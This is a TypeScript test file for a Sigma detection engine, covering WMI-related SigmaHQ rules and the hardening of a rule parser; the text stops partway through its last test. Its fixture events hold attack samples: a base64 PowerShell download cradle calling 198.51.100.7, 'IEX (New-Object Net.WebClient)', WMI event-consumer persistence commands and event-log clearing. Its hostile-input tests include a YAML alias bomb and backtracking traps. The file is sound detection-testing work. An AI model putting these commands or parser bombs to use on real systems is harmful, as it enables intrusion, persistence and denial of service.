/**
 * The Sigma engine (src/sigma): every modifier, keyword lists and condition form on our own fixture rules and events
 * (exact hits and matched fields); the SigmaHQ WMI-related rules on real EVTX records; the whole SigmaHQ rules
 * snapshot loaded with exact counts; the block-style YAML reader against the `yaml` library on every SigmaHQ rule;
 * hostile inputs.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { createRequire } from 'node:module';
import { isDeepStrictEqual } from 'node:util';
import { compileSigma, readSigmaSources, MAX_RULE_FILE, type SigmaRuleSet } from '../src/sigma/index.js';
import { readBlockYaml } from '../src/sigma/yaml-block.js';
import { compileNeedle, parseSigmaString, windash } from '../src/sigma/strings.js';
import { parseCondition, evalCondition } from '../src/sigma/condition.js';
import { specOf, transformValue } from '../src/sigma/modifiers.js';
import { buildView, MAX_FIELDS } from '../src/sigma/event.js';
import { EvtxReader } from '../src/evtx/index.js';
import { repoRoot, evtxSample, hasSamples } from './support/samples.js';
import { scratchDir } from './support/tmp.js';
import { readTarGz } from './support/tar-walk.js';

const FIX = join(repoRoot(), 'test/fixtures/sigma');
const TARBALL = join(FIX, 'sigmahq-rules-8eaafff.tar.gz');

const hitsOf = (set: SigmaRuleSet, ev: unknown): Array<[string, string[]]> =>
  set.match(ev).map((h) => [h.rule.id, h.matched.map((m) => `${m.field}=${m.value}`)]);

function evtxEvents(file: string): unknown[] {
  const r = EvtxReader.open(file);
  return [...r.records()].map((x) => x.toJSON());
}

// ---- our own rules: every modifier and condition form ------------------------------------------------------

const modifiers = (() => {
  const { sources, errors } = readSigmaSources([join(FIX, 'modifiers')]);
  assert.deepEqual(errors, []);
  return compileSigma(sources);
})();
const events = JSON.parse(readFileSync(join(FIX, 'modifiers/events.json'), 'utf8')) as Record<string, unknown>;

test('sigma: fixture rules load, refuse and count as the specification and wmiscope support say', () => {
  const s = modifiers.summary;
  assert.equal(s.files, 18);
  assert.equal(s.loaded, 9);
  assert.deepEqual(s.notApplicable, { count: 1, byLogsource: { 'linux/process_creation/': 1 } });
  assert.deepEqual(
    s.notLoaded.map((n) => [n.id, n.why]),
    [
      ['mod-cidr', 'selection.SourceIp|cidr: network ranges (|cidr) are not supported'],
      ['mod-correlation', 'correlation rules are not supported'],
      ['mod-count', 'aggregation in condition (`| count` …) is not supported'],
      ['mod-multi', 'several YAML documents (rule collections) are not supported'],
      ['mod-near', '`near` is not supported'],
      ['mod-re-refused', 'selection.CommandLine|re: regular expression refused (linear-time engine): error parsing regexp: invalid named capture: `(?<=wmic )process`'],
      ['mod-undefined', 'condition names "filter", which is not a search identifier'],
      ['mod-unknown', 'selection.Image|sounds_like: unknown modifier |sounds_like'],
    ],
  );
  const byId = new Map(modifiers.rules.map((r) => [r.id, r]));
  assert.deepEqual(byId.get('mod-equals'), {
    id: 'mod-equals',
    title: 'Equality, wildcards and escapes',
    level: 'low',
    status: 'test',
    author: 'wmiscope tests',
    tags: ['attack.execution', 'attack.t1047'],
    attack: ['T1047'],
    logsource: 'process_creation',
    file: join(FIX, 'modifiers/equals-wildcards.yml'),
  });
  assert.equal(byId.get('mod-windash')?.logsource, 'ps_classic');
  assert.equal(byId.get('mod-keywords')?.logsource, 'wmi');
  assert.equal(byId.get('mod-contains')?.status, null);
});

test('sigma: each fixture event gets exactly the expected hits and matched fields', () => {
  const expected: Record<string, Array<[string, string[]]>> = {
    'sysmon1-wmic': [
      ['mod-contains', ['CommandLine=wmic process call create calc.exe', 'CurrentDirectory=C:\\Users\\bob\\', 'ParentImage=C:\\Windows\\explorer.exe']],
      ['mod-equals', ['Image=C:\\Windows\\System32\\wbem\\wmic.exe', 'CommandLine=wmic process call create calc.exe']],
      ['mod-exists', ['Hashes=SHA1=0000000000000000000000000000000000000000', 'TerminalSessionId=1', 'ProcessId=3140', 'RuleName=(null)', 'ParentUser=(null)', 'RuleName=']],
      ['mod-re', ['CommandLine=wmic process call create calc.exe', 'Image=C:\\Windows\\System32\\wbem\\wmic.exe']],
    ],
    'sysmon1-star': [['mod-equals', ['Description=WMI*']]],
    'sysmon1-multiline': [['mod-re', ['CommandLine=first\nsecond line\nthird']]],
    'sysmon1-cmd': [],
    'security4688-wmiprvse': [['mod-4688', ['NewProcessName=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'IntegrityLevel=System']]],
    'sysmon20-base64': [['mod-base64', ['Destination=cmd /c echo d2hvYW1pIC9hbGw= > x']]],
    'sysmon20-base64offset': [
      ['mod-base64', ['Destination=powershell -e JHc9TmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50OyR3LkRvd25sb2FkU3RyaW5nKCJodHRwOi8vMTk4LjUxLjEwMC43L2EiKQ==']],
      ['mod-b64-all', ['Destination=powershell -e JHc9TmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50OyR3LkRvd25sb2FkU3RyaW5nKCJodHRwOi8vMTk4LjUxLjEwMC43L2EiKQ==']],
    ],
    'sysmon20-wide': [['mod-base64', ['Destination=powershell -enc JABhAD0AMQA7AEkARQBYACAAJABiAA==']]],
    'sysmon20-utf16le': [['mod-base64', ['Destination=YwBhAGwAYwA=']]],
    'sysmon20-utf16le-lowercase': [], // base64 is compared case-sensitively
    'sysmon20-utf16be': [['mod-base64', ['Destination=x AGMAYQBsAGM=']]],
    'sysmon20-utf16bom': [['mod-base64', ['Destination=x //5jAGEAbABjAA==']]],
    'classic400-endash': [['mod-windash', ['HostApplication=powershell.exe \u2013enc SQBFAFgA']]],
    'classic400-slash': [['mod-windash', ['HostApplication=powershell.exe /enc SQBFAFgA']]],
    'classic400-inner-hyphen': [],
    'classic800-endash': [], // ps_classic_start reads event 400 only
    'classic400-iex': [['mod-windash', ['Data=IEX (New-Object Net.WebClient)']]],
    'classic400-iex-lowercase': [], // |cased
    'wmi5861-binding': [['mod-keywords', ['CONSUMER=CommandLineEventConsumer="BotConsumer23"', 'Namespace=//./root/subscription', 'ESS=BotFilter82']]],
    'wmi5861-scm': [
      [
        'mod-keywords',
        [
          'CONSUMER=CommandLineEventConsumer="BotConsumer23"',
          'Namespace=//./root/subscription',
          'ESS=BotFilter82',
          'EventID=5861',
          'PossibleCause=Binding EventFilter: instance of __EventFilter { Name = "BotFilter82"; Query = "select * from MSFT_SCMEventLogEvent"; EventNamespace = "root/cimv2"; }; SCM Event Provider; CommandLineEventConsumer',
        ],
      ],
    ],
  };
  assert.deepEqual(Object.keys(events).sort(), Object.keys(expected).sort());
  for (const [name, ev] of Object.entries(events)) assert.deepEqual(hitsOf(modifiers, ev), expected[name], name);
});

test('sigma: logsourceOf and wants follow the logsource table', () => {
  assert.equal(modifiers.logsourceOf(events['security4688-wmiprvse']), 'process_creation');
  assert.equal(modifiers.logsourceOf(events['classic800-endash']), 'ps_classic');
  assert.equal(modifiers.logsourceOf(events['wmi5861-scm']), 'wmi');
  assert.equal(modifiers.logsourceOf({ Event: { System: { Channel: 'Security', EventID: 4624 } } }), null);
  assert.equal(modifiers.logsourceOf({ Event: { System: { Channel: 'ForwardedEvents', Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: '20' } } }), 'wmi_event');
  assert.equal(modifiers.logsourceOf(null), null);
  assert.equal(modifiers.logsourceOf('text'), null);
  assert.equal(modifiers.wants('Microsoft-Windows-Sysmon/Operational', 20), true);
  assert.equal(modifiers.wants('Microsoft-Windows-Sysmon/Operational', 3), false);
  assert.equal(modifiers.wants('security', 4688), true);
  assert.equal(modifiers.wants('Security', 4624), false);
  assert.equal(modifiers.wants('Windows PowerShell', 400), true);
  assert.equal(modifiers.wants('Windows PowerShell', 800), false);
  assert.equal(modifiers.wants('Microsoft-Windows-WMI-Activity/Operational', 5857), true);
  assert.equal(modifiers.wants('Microsoft-Windows-PowerShell/Operational', 4104), false); // no ps_script rule here
  assert.equal(modifiers.wants(null, null), false);
  // an explicit logsource overrides the event's
  assert.deepEqual(hitsOf(modifiers, events['sysmon1-wmic']).length, 4);
  assert.deepEqual(modifiers.match(events['sysmon1-wmic'], 'wmi'), []);
});

test('sigma: strings, wildcards, escapes and windash', () => {
  assert.deepEqual(parseSigmaString('C:\\Windows\\\\*'), ['C:\\Windows\\', { w: '*' }]);
  assert.deepEqual(parseSigmaString('C:\\Windows\\*'), ['C:\\Windows*'], 'a backslash before a wildcard escapes it');
  assert.deepEqual(parseSigmaString('C:\\Windows\\x'), ['C:\\Windows\\x']);
  assert.deepEqual(parseSigmaString('a\\*b\\?c\\\\*'), ['a*b?c\\', { w: '*' }]);
  assert.deepEqual(parseSigmaString('\\\\\\*'), ['\\*']);
  const n = (s: string, cased = false) => compileNeedle(parseSigmaString(s), cased);
  assert.equal(n('a*b*c').test('axxbyyc'), true);
  assert.equal(n('a*b*c').test('axxbyy'), false);
  assert.equal(n('*aab').test('aaab'), true);
  assert.equal(n('a?c').test('abc'), true);
  assert.equal(n('a?c').test('ac'), false);
  assert.equal(n('').test(''), true);
  assert.equal(n('ABC', true).test('abc'), false);
  // a long value against many stars finishes (single backtrack point)
  assert.equal(n('*a*a*a*a*a*a*a*a*b').test('a'.repeat(20000)), false);
  const dash = compileNeedle(windash(parseSigmaString('*-enc Set-Content /x*')), false);
  for (const d of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.equal(dash.test(`powershell ${d}enc set-content ${d}x`), true, d);
  assert.equal(dash.test('powershell -enc set/content -x'), false, 'the hyphen inside a word stays literal');
});

test('sigma: base64offset yields the offset-independent middles (pySigma cuts)', () => {
  const spec = specOf(['base64offset', 'contains']);
  assert.ok(typeof spec !== 'string');
  assert.deepEqual(transformValue(spec, 'foobar'), [['Zm9vYmFy'], ['Zvb2Jhc'], ['mb29iYX']]);
  const variants = transformValue(spec, '/bin/sh');
  assert.deepEqual(variants, [['L2Jpbi9za'], ['9iaW4vc2'], ['vYmluL3No']]);
  for (const prefix of ['', 'x', 'xy', 'xyz']) {
    const enc = Buffer.from(`${prefix}/bin/sh--`).toString('base64');
    assert.ok(variants.some((v) => enc.includes(v[0] as string)), prefix);
  }
  assert.equal(specOf(['re', 'contains']), '|contains cannot follow |re');
  assert.equal(specOf(['i']), '|i is a sub-modifier of |re');
  assert.deepEqual(transformValue(specOf(['utf16le']) as Exclude<ReturnType<typeof specOf>, string>, 'x'), 'utf16 encodings are only supported before |base64 or |base64offset');
});

test('sigma: conditions: precedence, x of patterns, them without underscores, lists', () => {
  const names = ['sel_a', 'sel_b', 'filter_x', '_hidden'];
  const truth = (vals: boolean[]) => (i: number) => vals[i]!;
  const c1 = parseCondition('sel_a or sel_b and not filter_x', names);
  assert.equal(evalCondition(c1, truth([true, false, true, false])), true);
  assert.equal(evalCondition(c1, truth([false, true, true, false])), false);
  const c2 = parseCondition('(sel_a or sel_b) and not 1 of filter_*', names);
  assert.equal(evalCondition(c2, truth([false, true, false, false])), true);
  const them = parseCondition('all of them', names);
  assert.deepEqual(them, { k: 'of', all: true, ids: [0, 1, 2] });
  assert.deepEqual(parseCondition('any of sel_*', names), { k: 'of', all: false, ids: [0, 1] });
  assert.throws(() => parseCondition('2 of sel_*', names), /only 1 of, any of, all of/);
  assert.throws(() => parseCondition('1 of nothing_*', names), /matches no search identifier/);
  assert.throws(() => parseCondition('(sel_a', names), /unbalanced/);
  assert.throws(() => parseCondition(`${'('.repeat(100)}sel_a${')'.repeat(100)}`, names), /nested deeper/);
  assert.throws(() => parseCondition('sel_a and', names), /ends too early/);
});

// ---- the SigmaHQ WMI-related rules ---------------------------------------------------------------------------

const sigmahq = (() => {
  const { sources, errors } = readSigmaSources([join(FIX, 'sigmahq')]);
  assert.deepEqual(errors, []);
  return compileSigma(sources);
})();

test('sigma: the vendored SigmaHQ WMI-related rules load (47), the rest are counted by logsource', () => {
  const s = sigmahq.summary;
  assert.equal(s.files, 64);
  assert.equal(s.loaded, 47);
  assert.deepEqual(s.notLoaded, []);
  assert.deepEqual(s.notApplicable, {
    count: 17,
    byLogsource: {
      'windows//security': 4,
      'windows/image_load/': 5,
      'rpc_firewall/application/': 1,
      'windows//firewall-as': 1,
      'windows//windefend': 1,
      'windows/file_event/': 3,
      'windows/pipe_created/': 1,
      'windows/registry_set/': 1,
    },
  });
  const by: Record<string, number> = {};
  for (const r of sigmahq.rules) by[r.logsource] = (by[r.logsource] ?? 0) + 1;
  assert.deepEqual(by, { process_creation: 39, wmi: 2, ps_script: 3, wmi_event: 3 });
  const sub = sigmahq.rules.find((r) => r.id === '0f06a3a5-6a09-413f-8743-e6cf35561297')!;
  assert.equal(sub.title, 'WMI Event Subscription');
  assert.deepEqual(sub.attack, ['T1546.003']);
  assert.equal(sub.level, 'medium');
  assert.equal(sub.author, 'Tom Ueltschi (@c_APT_ure)');
});

test('sigma: Sysmon 19/20/21 and 1 records of a CommandLineEventConsumer sample hit the SigmaHQ rules', () => {
  const evs = evtxEvents(join(repoRoot(), 'test/fixtures/evtx/sysmon_20_21_1_CommandLineEventConsumer.evtx'));
  const got: string[] = [];
  for (const ev of evs) {
    const ls = sigmahq.logsourceOf(ev);
    for (const h of sigmahq.match(ev)) got.push(`${ls}:${(ev as { Event: { System: { EventID: number } } }).Event.System.EventID}:${h.rule.title}`);
  }
  assert.deepEqual(got, [
    'wmi_event:20:WMI Event Subscription',
    'wmi_event:21:WMI Event Subscription',
    // a SigmaHQ threat-hunting rule: `wmic … CREATE … TargetInstance …` contains "get" and "path" and "name"
    'process_creation:1:System Information Discovery Via Wmic.EXE',
    'wmi_event:19:WMI Event Subscription',
    'wmi_event:20:WMI Event Subscription',
    'wmi_event:19:WMI Event Subscription',
    'wmi_event:21:WMI Event Subscription',
  ]);
});

test('sigma: the SigmaHQ regression sample (WMI-Activity 5858 ClearEventLog) matches its rule and no other', (t) => {
  if (!hasSamples()) return t.skip('shared samples not present (../shared/samples)');
  const dir = evtxSample('sigma');
  const file = readdirSync(dir).find((f) => f.endsWith('.evtx'));
  if (!file) return t.skip('no SigmaHQ regression sample in samples/evtx/sigma');
  const evs = evtxEvents(join(dir, file));
  assert.equal(evs.length, 1);
  assert.equal(sigmahq.logsourceOf(evs[0]), 'wmi');
  assert.deepEqual(hitsOf(sigmahq, evs[0]), [
    [
      'd4f1a2b3-7c8e-4d5f-b6a9-1e0c2d3f4e5b',
      [
        'EventID=5858',
        'Operation=Start IWbemServices::ExecMethod - ROOT\\CIMV2 : \\\\SWACHCHHANDA\\ROOT\\CIMV2:Win32_NTEventlogFile.Name="C:\\\\WINDOWS\\\\System32\\\\Winevt\\\\Logs\\\\System.evtx"::cleareventlog',
      ],
    ],
  ]);
  // the regression set's JSON rendering of the same record is the same event to the engine
  const json = readdirSync(dir).find((f) => f.endsWith('.json'));
  if (json) assert.deepEqual(hitsOf(sigmahq, JSON.parse(readFileSync(join(dir, json), 'utf8'))), hitsOf(sigmahq, evs[0]));
});

test('sigma: synthetic events for the SigmaHQ WMI rules: each matches its rule and no other WMI-related rule', () => {
  const sysmon = (id: number, data: Record<string, unknown>) => ({
    Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: id, Channel: 'Microsoft-Windows-Sysmon/Operational' }, EventData: data },
  });
  const cases: Array<[string, unknown, string[]]> = [
    [
      'Sysmon 20 downloading script consumer',
      sysmon(20, { EventType: 'WmiConsumerEvent', Operation: 'Created', Type: 'Script', Destination: 'Set o = CreateObject("WScript.Shell")' }),
      ['WMI Event Subscription', 'Suspicious Scripting in a WMI Consumer'],
    ],
    [
      'Sysmon 20 consumer holding a base64 PE',
      sysmon(20, { EventType: 'WmiConsumerEvent', Operation: 'Created', Type: 'Command Line', Destination: `x ${Buffer.from('MZ..This program cannot be run in DOS mode.').toString('base64')}` }),
      ['WMI Event Subscription', 'Suspicious Encoded Scripts in a WMI Consumer'],
    ],
    [
      'scrcons.exe started by svchost (Sysmon 1)',
      sysmon(1, { Image: 'C:\\Windows\\System32\\wbem\\scrcons.exe', ParentImage: 'C:\\Windows\\System32\\svchost.exe', CommandLine: 'C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding' }),
      ['WMI Persistence - Script Event Consumer'],
    ],
    [
      'wmic creating an ActiveScriptEventConsumer and a process (Security 4688 with the Sysmon field names mapped)',
      {
        Event: {
          System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing' } }, EventID: 4688, Channel: 'Security' },
          EventData: { NewProcessName: 'C:\\Windows\\System32\\wbem\\WMIC.exe', CommandLine: 'wmic /namespace:\\\\root\\subscription PATH ActiveScriptEventConsumer CREATE Name="x" & wmic process call create calc.exe', ParentProcessName: 'C:\\Windows\\System32\\cmd.exe' },
        },
      },
      ['NewActiveScriptEventConsumer Creation Attempt via Wmic.EXE', 'Process Creation Attempt via Wmic.EXE'],
    ],
    ['an ordinary process', sysmon(1, { Image: 'C:\\Windows\\System32\\notepad.exe', ParentImage: 'C:\\Windows\\explorer.exe', CommandLine: 'notepad' }), []],
  ];
  for (const [name, ev, titles] of cases) assert.deepEqual(sigmahq.match(ev).map((h) => h.rule.title).sort(), titles.sort(), name);
});

test('sigma: SigmaHQ regression data (opt-in: WMISCOPE_SIGMA_REPO=<a SigmaHQ/sigma checkout>): every record set matches its rule', (t) => {
  // not vendored (its licence is not stated); point the variable at a checkout holding rules*/ and regression_data/
  const root = process.env['WMISCOPE_SIGMA_REPO'];
  if (!root) return t.skip('WMISCOPE_SIGMA_REPO not set');
  const walk = (d: string): string[] => readdirSync(d, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? walk(join(d, e.name)) : [join(d, e.name)]));
  const ruleDirs = readdirSync(root).filter((d) => d.startsWith('rules')).map((d) => join(root, d));
  const set = compileSigma(readSigmaSources(ruleDirs).sources);
  const loaded = new Set(set.rules.map((r) => r.id));
  let checked = 0;
  for (const info of walk(join(root, 'regression_data')).filter((f) => f.endsWith('info.yml'))) {
    const id = /rule_metadata:\s*\n\s*- id: (\S+)/.exec(readFileSync(info, 'utf8'))?.[1];
    if (!id || !loaded.has(id)) continue; // a logsource wmiscope does not read
    const dir = info.slice(0, -'/info.yml'.length);
    for (const j of readdirSync(dir).filter((f) => f.endsWith('.json'))) {
      // a rendering is one event, or several concatenated
      const text = readFileSync(join(dir, j), 'utf8');
      const evs = JSON.parse(`[${text.trim().replace(/}\s*\n{/g, '},{')}]`) as unknown[];
      assert.ok(evs.some((e) => set.match(e).some((h) => h.rule.id === id)), `${dir}/${j}`);
      checked++;
    }
  }
  assert.ok(checked > 0, 'no regression data found');
  t.diagnostic(`${checked} regression renderings matched their rules`);
});

// ---- the whole SigmaHQ rules snapshot --------------------------------------------------------------------------

const tarSources = (() => {
  const files = readTarGz(TARBALL).filter((f) => f.path.endsWith('.yml'));
  return files.map((f) => ({ file: f.path, text: f.data.toString('utf8') }));
})();

test('sigma: the SigmaHQ snapshot (3,780 rules) loads with exact counts, nothing thrown', () => {
  assert.equal(tarSources.length, 3780);
  const set = compileSigma(tarSources);
  const s = set.summary;
  assert.equal(s.files, 3780);
  assert.equal(s.loaded, 1645);
  assert.equal(s.notApplicable.count, 2132);
  assert.equal(Object.keys(s.notApplicable.byLogsource).length, 130);
  // every logsource's count (the file was written from this snapshot; the spot checks below were read off by hand)
  assert.deepEqual(s.notApplicable.byLogsource, JSON.parse(readFileSync(join(FIX, 'sigmahq-8eaafff-not-applicable.json'), 'utf8')));
  const ls = s.notApplicable.byLogsource;
  assert.deepEqual(
    [ls['windows/registry_set/'], ls['windows/file_event/'], ls['windows//security'], ls['linux/process_creation/'], ls['windows/image_load/'], ls['windows//sysmon'], ls['windows//']],
    [224, 220, 177, 144, 125, 4, 1],
  );
  assert.equal(s.loaded + s.notApplicable.count + s.notLoaded.length, s.files);
  const reasons: Record<string, number> = {};
  for (const n of s.notLoaded) {
    const why = n.why.replace(/^[^:]*: /, '');
    reasons[why] = (reasons[why] ?? 0) + 1;
  }
  assert.deepEqual(reasons, { 'placeholders (|expand) need a site-specific value list': 1, 'field references (|fieldref) are not supported': 2 });
  const by: Record<string, number> = {};
  for (const r of set.rules) by[r.logsource] = (by[r.logsource] ?? 0) + 1;
  assert.deepEqual(by, { process_creation: 1413, ps_script: 178, ps_classic: 15, ps_module: 34, wmi: 2, wmi_event: 3 });
  assert.equal(new Set(set.rules.map((r) => r.id)).size, 1645);
  // every loaded rule can be run on an event of its logsource without throwing
  for (const ev of Object.values(events)) set.match(ev);
});

test('sigma: the prefilter changes no hit: every SigmaHQ rule on fixture and sample records, with and without it', () => {
  const fast = compileSigma(tarSources);
  const slow = compileSigma(tarSources, { prefilter: false });
  const records: unknown[] = [...Object.values(events), ...evtxEvents(join(repoRoot(), 'test/fixtures/evtx/sysmon_20_21_1_CommandLineEventConsumer.evtx'))];
  if (hasSamples())
    for (const f of [
      'python-evtx/issue_43.evtx',
      'hayabusa-sample-evtx/Powershell-Invoke-Obfuscation-many.evtx',
      'hayabusa-sample-evtx/ID800-4103-4104-WMI registration via PowerLurk.evtx',
      'hayabusa-sample-evtx/ID1-WMI spwaning PowerShell process - WMImplant.evtx',
      'EVTX-ATTACK-SAMPLES/LM_WMI_4624_4688_TargetHost.evtx',
      'EVTX-ATTACK-SAMPLES/wmighost_sysmon_20_21_1.evtx',
      'sigma/d4f1a2b3-7c8e-4d5f-b6a9-1e0c2d3f4e5b.evtx',
    ])
      records.push(...evtxEvents(evtxSample(f)));
  let hits = 0;
  for (const e of records) {
    const a = hitsOf(fast, e);
    assert.deepEqual(a, hitsOf(slow, e));
    hits += a.length;
  }
  assert.ok(hits > 0);
});

test('sigma: the block-style YAML reader returns what the yaml library returns, on every SigmaHQ rule it accepts', () => {
  const yaml = createRequire(import.meta.url)('yaml') as typeof import('yaml');
  let refused = 0;
  for (const s of tarSources) {
    const mine = readBlockYaml(s.text);
    if (mine === null) {
      refused++;
      continue;
    }
    assert.ok(isDeepStrictEqual(mine, yaml.parse(s.text)), s.file);
  }
  assert.equal(refused, 4);
  // shapes outside the subset are refused, never misread
  for (const text of ['a: [1, 2]', 'a: &x 1\nb: *x', 'a: 1\n---\nb: 2', 'a: 1\na: 2', 'a: "x\n  y"', 'a: b\n  c', '- a', 'a: !tag x', '\ta: 1'])
    assert.equal(readBlockYaml(text), null, text);
  assert.deepEqual(readBlockYaml("a:\n  - 'x''y'\n  - \"\\x41\\u00e9\"\n  - k: 1\n    l: ~\nb: |\n  one\n  two\nc: >-\n  f1\n  f2\nd: 0x1F\ne: 1.5e3 # c\n"), {
    a: ["x'y", 'A\u00e9', { k: 1, l: null }],
    b: 'one\ntwo\n',
    c: 'f1 f2',
    d: 31,
    e: 1500,
  });
});

// ---- hostile input ---------------------------------------------------------------------------------------------

test('sigma: hostile rule files are refused one by one, the good rule beside them loads', () => {
  const dir = scratchDir('sigma');
  const good = "title: good\nid: good\nlogsource:\n  product: windows\n  category: wmi_event\ndetection:\n  s:\n    EventID: 20\n  condition: s\nlevel: high\n";
  writeFileSync(join(dir, 'a-good.yml'), good);
  writeFileSync(join(dir, 'b-big.yml'), `title: big\n#${'x'.repeat(MAX_RULE_FILE)}\n`);
  writeFileSync(join(dir, 'c-deep.yml'), `${'a:\n'.split('').join('')}${Array.from({ length: 200 }, (_, i) => `${' '.repeat(i)}k:`).join('\n')} 1\n`);
  writeFileSync(join(dir, 'd-values.yml'), good.replace('EventID: 20', `EventID:\n${Array.from({ length: 5000 }, (_, i) => `      - ${i}`).join('\n')}`).replace('id: good', 'id: many'));
  writeFileSync(join(dir, 'e-cond.yml'), good.replace('condition: s', `condition: ${'not '.repeat(100)}s`).replace('id: good', 'id: nots'));
  writeFileSync(join(dir, 'f-binary.yml'), Buffer.from([0, 1, 2, 0xff, 0xfe, 10, 58, 58]));
  writeFileSync(join(dir, 'g-alias-bomb.yml'), `a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n`);
  // quadratic traps for the readers: a long line with no colon, a long identifier against a many-star pattern
  writeFileSync(join(dir, 'i-long-line.yml'), `title: x${' '.repeat(500_000)}y\nz${' '.repeat(500_000)}\n`);
  writeFileSync(join(dir, 'j-stars.yml'), good.replace('  s:\n', `  ${'a'.repeat(100_000)}:\n    EventID: 1\n  s:\n`).replace('condition: s', `condition: s and not 1 of ${'*a'.repeat(30)}*b`).replace('id: good', 'id: stars'));
  mkdirSync(join(dir, 'sub'));
  writeFileSync(join(dir, 'sub', 'h-not-yaml.txt'), 'ignored: true');
  // a file named directly is read whatever its extension; a folder is walked for *.yml / *.yaml only
  assert.deepEqual(readSigmaSources([join(dir, 'sub', 'h-not-yaml.txt')]).sources.map((x) => x.text), ['ignored: true']);
  const { sources, errors } = readSigmaSources([dir, join(dir, 'missing.yml')]);
  assert.deepEqual(errors.map((e) => [e.file.slice(dir.length + 1), e.why]), [
    ['missing.yml', 'cannot read: ENOENT'],
    ['b-big.yml', `larger than ${MAX_RULE_FILE} bytes`],
  ]);
  const set = compileSigma(sources);
  assert.equal(set.summary.files, 8);
  assert.deepEqual(set.rules.map((r) => r.id), ['good']);
  assert.deepEqual(
    set.summary.notLoaded.map((n) => [n.file.slice(dir.length + 1), n.why.split(':')[0]]),
    [
      ['c-deep.yml', 'no logsource'],
      ['d-values.yml', 's.EventID'],
      ['e-cond.yml', 'condition nested deeper than 64'],
      ['f-binary.yml', set.summary.notLoaded[3]!.why.split(':')[0]],
      ['g-alias-bomb.yml', set.summary.notLoaded[4]!.why.split(':')[0]],
      ['i-long-line.yml', set.summary.notLoaded[5]!.why.split(':')[0]],
      ['j-stars.yml', '"*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b" matches no search identifier'],
    ],
  );
  assert.match(set.summary.notLoaded[1]!.why, /more than 4096 values/);
});

test('sigma: an attacker-written event is read within bounds', () => {
  const data: Record<string, string> = {};
  for (let i = 0; i < 5000; i++) data[`F${i}`] = 'x';
  const view = buildView({ Event: { System: { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 20 }, EventData: data } });
  assert.equal(view.fields.size, MAX_FIELDS);
  const classic = buildView({ Event: { System: { Channel: 'Windows PowerShell', EventID: 400 }, EventData: { Data: { '#text': Array.from({ length: 1000 }, (_, i) => `K${i}=v`) } } } });
  assert.equal(classic.fields.get('data')?.values.length, 64);
  assert.ok(classic.fields.size <= 64 + 4);
  for (const odd of [null, 1, 'x', [], { Event: null }, { Event: { System: 5, EventData: [1, 2] } }, { Event: { System: { EventID: { '#text': 'abc' } } } }])
    assert.deepEqual(modifiers.match(odd), []);
});

test('sigma: a rule reusing the id of a rule loaded before it is not loaded, saying whose id it is (a downloaded pack cannot shadow a rule)', () => {
  const rule = (id: string, title: string, level: string): string =>
    `title: ${title}\nid: ${id}\nlogsource:\n  product: windows\n  category: wmi_event\ndetection:\n  s:\n    EventID: 20\n  condition: s\nlevel: ${level}\n`;
  const set = compileSigma([
    { file: 'a/pack.yml', text: rule('0f06a3a5-6a09-413f-8743-e6cf35561297', 'Harmless', 'informational') },
    { file: 'b/sigmahq.yml', text: rule('0f06a3a5-6a09-413f-8743-e6cf35561297', 'WMI Event Subscription', 'medium') },
    { file: 'c/other.yml', text: rule('other', 'Other', 'low') },
    // no id: the file name stands for it, so two such files of one name in two folders collide too
    { file: 'd/x.yml', text: rule('x', 'X', 'low').replace('id: x\n', '') },
    { file: 'e/x.yml', text: rule('x', 'X again', 'low').replace('id: x\n', '') },
  ]);
  assert.deepEqual(set.rules.map((r) => [r.id, r.file]), [
    ['0f06a3a5-6a09-413f-8743-e6cf35561297', 'a/pack.yml'],
    ['other', 'c/other.yml'],
    ['x', 'd/x.yml'],
  ]);
  assert.equal(set.summary.loaded, 3);
  assert.deepEqual(set.summary.notLoaded, [
    { file: 'b/sigmahq.yml', id: '0f06a3a5-6a09-413f-8743-e6cf35561297', title: 'WMI Event Subscription', why: 'the id of the rule in a/pack.yml, loaded before it: rule ids must be unique (a hit is reported by its rule id)' },
    { file: 'e/x.yml', id: null, title: 'X again', why: 'the id of the rule in d/x.yml, loaded before it: rule ids must be unique (a hit is reported by its rule id)' },
  ]);
});

test('sigma: a rule title is cut at 256 characters and an id over 128 is refused: every hit repeats them (a 900 KB title over 20,000 hits of one file was past the longest string a report can be)', () => {
  const rule = (id: string, title: string): string => `title: ${title}\nid: ${id}\nlogsource:\n  product: windows\n  category: wmi_event\ndetection:\n  s:\n    EventID: 20\n  condition: s\nlevel: low\n`;
  const set = compileSigma([
    { file: 'long-title.yml', text: rule('long-title', 'T'.repeat(900_000)) },
    { file: 'long-id.yml', text: rule('I'.repeat(100_000), 'long id') },
    { file: 'exact.yml', text: rule('x'.repeat(128), 'y'.repeat(256)) },
  ]);
  assert.deepEqual(set.rules.map((r) => [r.id.length, r.title.length]), [[10, 256], [128, 256]]);
  assert.equal(set.rules[0]!.title, `${'T'.repeat(255)}…`);
  assert.equal(set.rules[1]!.title, 'y'.repeat(256));
  assert.deepEqual(set.summary.notLoaded.map((n) => [n.file, n.id?.length, n.title, n.why]), [['long-id.yml', 129, 'long id', 'id longer than 128 characters']]);
  assert.equal(set.summary.notLoaded[0]!.id, `${'I'.repeat(128)}…`);
});

test('a wmiscope rules file given to --sigma is not loaded, and the reason says --rules reads it', () => {
  const text = readFileSync(join(repoRoot(), 'test/fixtures/rules/user/10-every-operator.yml'), 'utf8');
  const set = compileSigma([{ file: 'corp.yml', text }, { file: 'other.yml', text: 'title: x\n' }]);
